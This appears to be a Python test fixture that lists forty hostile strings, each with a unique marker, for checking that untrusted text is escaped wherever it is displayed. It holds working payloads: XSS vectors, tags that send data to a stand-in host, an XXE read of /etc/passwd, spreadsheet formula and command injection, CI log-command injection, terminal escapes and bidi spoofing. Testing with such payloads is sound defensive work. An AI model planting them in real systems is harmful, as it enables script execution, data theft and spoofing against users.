"""Forty texts that a stranger may write, each of which does something where it is not shown as text.

Each has a mark of its own in it, so that one can find what became of it.
"""

LONG = 5_000  # signs without a break
_TEXTS = (
    "<script>alert('MARK')</script>",
    "<img src=x onerror=alert('MARK')>",
    "<svg/onload=alert('MARK')>",
    "<svg><a xlink:href='javascript:alert(1)'><text>MARK</text></a></svg>",
    "<iframe src=//evil.invalid/MARK></iframe>",
    "<form action=http://evil.invalid><input name=MARK></form>",
    "<style>body{display:none;background:url(//evil.invalid/MARK)}</style>",
    "<link rel=stylesheet href=//evil.invalid/MARK.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/MARK'>",
    "<base href=http://evil.invalid/MARK>",
    "</table></div></main><h1>MARK: a grade of one's own</h1>",
    "</title></style></textarea></pre><script>alert('MARK')</script>",
    "--><script>alert('MARK')</script><!--",
    "\" onmouseover=alert('MARK') x=\"",
    "' autofocus onfocus=alert(`MARK`) x='",
    "&lt;script&gt;alert('MARK')&lt;/script&gt;",
    "javascript:alert('MARK')",
    "data:text/html,<script>alert('MARK')</script>",
    "[MARK](javascript:alert(1)) ![x](http://evil.invalid/x.png)",
    "$$\\href{javascript:alert(1)}{MARK}$$ \\(\\style{x}{y}\\) \\input{/etc/passwd}",
    '<![CDATA[<script>alert(1)</script>]]><!ENTITY MARK SYSTEM "file:///etc/passwd">&MARK;',
    '"}],"MARK":"</script><script>alert(1)</script>',
    '=HYPERLINK("http://evil.invalid/MARK","x")',
    "=MARK+1",
    "+1+cmd|' /C calc'!MARK",
    "-2+MARK",
    "@SUM(MARK)",
    "\t=MARK+1",
    "\r=MARK+1",
    "＝MARK+1",
    "－MARK+1",
    'a,b;=MARK+1|"d"',
    "two\r\n::add-mask::MARK\nlines",
    "::error file=add.py,title=MARK::seen%0A",
    "\x1b[2J\x1b]0;MARK\x07\x1b[8m\x9b31m",
    "\x1b]8;;http://evil.invalid\x1b\\MARK\x1b]8;;\x1b\\",
    "before\x00MARK\x08\x7f\u2028\u2029\x85",
    "\u202eMARKgpj.exe \u2066\u2067\u200f\u061c\u200b\ufeff",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} MARK",
    "MARK" + "W" * LONG,
)
MARKS = tuple(f"h{at:02}q" for at in range(len(_TEXTS)))
HOSTILE = tuple(text.replace("MARK", mark) for text, mark in zip(_TEXTS, MARKS, strict=True))
